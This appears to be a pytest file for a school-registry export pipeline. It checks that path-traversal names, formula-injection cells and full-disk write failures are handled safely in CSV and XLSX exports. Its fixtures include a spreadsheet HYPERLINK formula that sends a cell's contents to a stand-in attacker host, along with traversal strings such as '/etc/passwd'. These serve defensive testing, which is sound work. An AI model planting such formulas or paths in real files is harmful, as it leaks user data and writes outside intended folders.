"""Hostile registry data in the exports: it never names a path, never becomes a formula, and a failing write
never hangs the workbook writer."""

from __future__ import annotations

import csv
import datetime as dt
import errno
import os
import threading
import time
import zipfile
from pathlib import Path

import duckdb
import pytest
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from skolon_pipeline.exports import xlsx
from skolon_pipeline.exports.cells import csv_safe_query
from skolon_pipeline.exports.validation_file import write_validation_files
from skolon_pipeline.files import OutsideFolder, safe_path, slug
from skolon_pipeline_tests.modes import mode, not_owner_only
from skolon_pipeline_tests.registry import Registry

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1, "Klicka här")'


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("Lindby kommun", "lindby-kommun"),
        ("Österåkers Skolor AB", "osterakers-skolor-ab"),
        ("../../x", "x"),
        ("..", "x"),
        ("", "x"),
        (None, "x"),
        ("/etc/passwd", "etc-passwd"),
        ("C:\\Windows", "c-windows"),
        ("a\x00b\nc", "a-b-c"),
        ("CON", "con"),
        ("x" * 500, "x" * 64),
        ("‮gpj.exe", "gpj-exe"),
    ],
)
def test_a_slug_is_a_plain_name(name, expected):
    assert slug(name) == expected


def test_safe_path_refuses_a_link_out_of_the_folder(tmp_path):
    base = tmp_path / "exports"
    base.mkdir()
    (base / "lindby-kommun").symlink_to(tmp_path)  # left by someone, pointing out of the export folder
    assert safe_path(base, "2026-12-01", "Lindby kommun") == base / "2026-12-01" / "lindby-kommun"
    with pytest.raises(OutsideFolder):
        safe_path(base, "Lindby kommun", "x")


def _hostile_registry() -> Registry:
    reg = Registry()
    reg.organisations[0]["displayName"] = "../../evil"  # the authority's name becomes a folder name
    school = reg.school(name="../..", code="../../x")
    students = [
        reg.student(school, givenName=HYPERLINK, familyName="+46 70 123"),
        reg.student(school, givenName="@SUM(A1:A9)", familyName="-2+3"),
    ]
    klass = reg.group(school, members=students, name="=1+1")
    reg.teach(school, klass)
    return reg


@pytest.fixture
def hostile_night(run_registry):
    return run_registry(_hostile_registry())


def test_a_school_unit_code_never_names_a_path(hostile_night, tmp_path):
    export_dir = tmp_path / "out" / "exports"
    export_dir.mkdir(parents=True)
    os.chmod(export_dir, 0o755)
    os.chmod(tmp_path / "out", 0o751)
    before = {p: mode(p) for p in (tmp_path, tmp_path / "out", export_dir)}
    outside_before = set(tmp_path.rglob("*")) - set(export_dir.rglob("*"))

    night, [written] = write_validation_files(hostile_night.warehouse, export_dir, school="../../x")

    assert written.folder == export_dir / night.isoformat() / "evil" / "x"  # slugs: '../..' + '-' + '../../x'
    assert written.xlsx.parent == written.folder and written.xlsx.is_file()
    assert written.xlsx.name == f"valideringsfil_evil_x_{night.isoformat()}.xlsx"
    # Nothing was written outside the export folder, and no folder that existed changed its mode.
    assert set(tmp_path.rglob("*")) - set(export_dir.rglob("*")) == outside_before
    assert {p: mode(p) for p in before} == before
    # What the export created is owner-only.
    assert not_owner_only(export_dir.rglob("*")) == {}

    # The whole night (every authority) as well.
    _, files = write_validation_files(hostile_night.warehouse, export_dir)
    assert [f.folder for f in files] == [export_dir / night.isoformat() / "evil"]
    assert {p: mode(p) for p in before} == before


def _csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as f:
        return [cell for row in csv.reader(f) for cell in row]


def test_cells_that_would_start_a_formula_are_text_in_csv_and_workbook(hostile_night, tmp_path):
    _, [written] = write_validation_files(hostile_night.warehouse, tmp_path / "exports")
    hostile = [HYPERLINK, "+46 70 123", "@SUM(A1:A9)", "-2+3", "=1+1"]

    # CSV (OWASP): a leading ' so that a spreadsheet shows the value as text; nothing starts a formula.
    cells = [c for name in ("users.csv", "groups.csv", "memberships.csv") for c in _csv_cells(written.folder / name)]
    for value in hostile:
        assert f"'{value}" in cells or any(c.startswith(f"'{value}") for c in cells), value
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]

    # Workbook: the exact value, as an inline string (never a formula), with Excel's quote prefix.
    with zipfile.ZipFile(written.xlsx) as zf:
        sheets = [zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in s or "<f " in s for s in sheets)
    wb = load_workbook(written.xlsx)
    found = {}
    for ws in wb:
        for row in ws.iter_rows():
            for c in row:
                if c.value in hostile:
                    found[c.value] = (c.data_type, c.quotePrefix)
    assert found == dict.fromkeys(hostile, ("s", True))
    # An independent reader (calamine, as pandas and Rust tools read workbooks) sees the same text.
    users = CalamineWorkbook.from_path(str(written.xlsx)).get_sheet_by_name("Användare").to_python()
    assert HYPERLINK in {cell for row in users for cell in row}


def test_text_cells_keep_leading_and_trailing_spaces(tmp_path):
    path = tmp_path / "t.xlsx"
    with duckdb.connect() as con:
        xlsx.write_workbook(con, path, [xlsx.Sheet("S", "SELECT '  indented ' AS v, '-' AS dash, 'plain' AS p")])
    ws = load_workbook(path)["S"]
    assert [c.value for c in ws[2]] == ["  indented ", "-", "plain"]
    assert [c.quotePrefix for c in ws[2]] == [False, True, False]


# (value sent, value an admin reads, quote-prefixed): each kind of value the writer must clean, keep or quote.
_CELL_CASES = [
    ("=1+1", "=1+1", True),
    ("+46 70 123", "+46 70 123", True),
    ("-2+3", "-2+3", True),
    ("@SUM(A1:A9)", "@SUM(A1:A9)", True),
    ("\tTab first", "\tTab first", True),
    ("\nnewline first", "\nnewline first", True),
    ("  indented", "  indented", False),
    ("trailing ", "trailing ", False),
    ("two\nlines", "two\nlines", False),
    ("Åsa & <Björk>", "Åsa & <Björk>", False),
    ("</t></is></c></row>", "</t></is></c></row>", False),
    ("bell\x07 and nul\x00", "bell and nul", False),
    ("del\x7fchar", "del\x7fchar", False),
    ("x" * 40_000, "x" * xlsx.MAX_TEXT, False),
    ("plain", "plain", False),
]


def _case_rows() -> list[tuple[str, str, str]]:
    """Each case in each of three text columns, the other two plain."""
    return [
        tuple(value if column == place else f"plain {n}" for column in range(3))
        for n, (value, _, _) in enumerate(_CELL_CASES)
        for place in range(3)
    ]


def _case_table(con: duckdb.DuckDBPyConnection, rows: list[tuple[str, str, str]]) -> None:
    """Table t: the rows in order (n), their three text values a, b, c around a date d."""
    con.execute("CREATE TABLE t (n INTEGER, a VARCHAR, d DATE, b VARCHAR, c VARCHAR)")
    con.executemany("INSERT INTO t VALUES (?, ?, DATE '2026-12-03', ?, ?)", [(i, *r) for i, r in enumerate(rows)])


def test_every_text_value_is_cleaned_kept_or_quoted_wherever_it_stands_in_its_row(tmp_path):
    # A row is written by plain concatenation only when one check over all its values finds nothing to do:
    # each case, in each of three text columns beside plain values and a date, reads back as it should.
    rows = _case_rows()
    path = tmp_path / "t.xlsx"
    with duckdb.connect() as con:
        _case_table(con, rows)
        xlsx.write_workbook(con, path, [xlsx.Sheet("S", "SELECT a, d, b, c FROM t ORDER BY n")])
    got = [[(c.value, c.quotePrefix) for c in row] for row in load_workbook(path)["S"].iter_rows(min_row=2)]
    expected = [
        [(read, quoted) if column == place else (f"plain {n}", False) for column in range(3)]
        for n, (_, read, quoted) in enumerate(_CELL_CASES)
        for place in range(3)
    ]
    assert [[r[0], r[2], r[3]] for r in got] == expected
    assert {r[1][0] for r in got} == {dt.datetime(2026, 12, 3)}
    # Whitespace at either end is kept for every reader (Excel trims it without xml:space="preserve").
    with zipfile.ZipFile(path) as zf:
        xml = zf.read("xl/worksheets/sheet1.xml").decode()
    assert xml.count('<t xml:space="preserve">trailing </t>') == 3
    assert xml.count('<t xml:space="preserve">  indented</t>') == 3


def test_every_text_value_that_would_start_a_formula_is_quoted_in_csv_wherever_it_stands_in_its_row():
    rows = _case_rows()
    with duckdb.connect() as con:
        _case_table(con, rows)
        got = con.execute(csv_safe_query(con, "SELECT a, d, b, c FROM t ORDER BY n")).fetchall()
    expected = [tuple(f"'{v}" if v[:1] in ("=", "+", "-", "@", "\t", "\n") else v for v in row) for row in rows]
    assert [(a, b, c) for a, _, b, c in got] == expected
    assert {d for _, d, _, _ in got} == {dt.date(2026, 12, 3)}


class _FullDisk:
    """A file whose writes fail with ENOSPC after `room` bytes, as on a full export volume."""

    def __init__(self, room: int):
        self.room, self.written = room, 0

    def write(self, data) -> int:
        if self.written + len(data) > self.room:
            raise OSError(errno.ENOSPC, "No space left on device")
        self.written += len(data)
        return len(data)

    def tell(self) -> int:
        return self.written

    def flush(self) -> None:
        pass

    def seekable(self) -> bool:
        return False


@pytest.mark.parametrize("target", ["file object", "/dev/full"])
def test_a_failing_write_ends_the_workbook_writer_with_the_error_within_seconds(monkeypatch, tmp_path, target):
    # Many small reads: DuckDB fills the pipe while the writer fails.
    monkeypatch.setattr(xlsx, "READ_BYTES", 64)
    if target == "/dev/full" and not os.path.exists("/dev/full"):
        pytest.skip("no /dev/full")
    out = _FullDisk(room=20_000) if target == "file object" else Path("/dev/full")
    result: dict = {}

    def write() -> None:
        try:
            with duckdb.connect() as con:
                xlsx.write_workbook(
                    con, out, [xlsx.Sheet("Rows", "SELECT i, 'name ' || i AS name FROM range(200000) t(i)")]
                )
        except BaseException as exc:
            result["error"] = exc

    started = time.monotonic()
    writer = threading.Thread(target=write, daemon=True)
    writer.start()
    writer.join(timeout=20)
    assert not writer.is_alive(), "the workbook writer hangs after a failed write"
    assert time.monotonic() - started < 20
    error = result.get("error")
    assert isinstance(error, OSError) and error.errno == errno.ENOSPC, error
    assert not [t for t in threading.enumerate() if t.name == "xlsx-rows"]
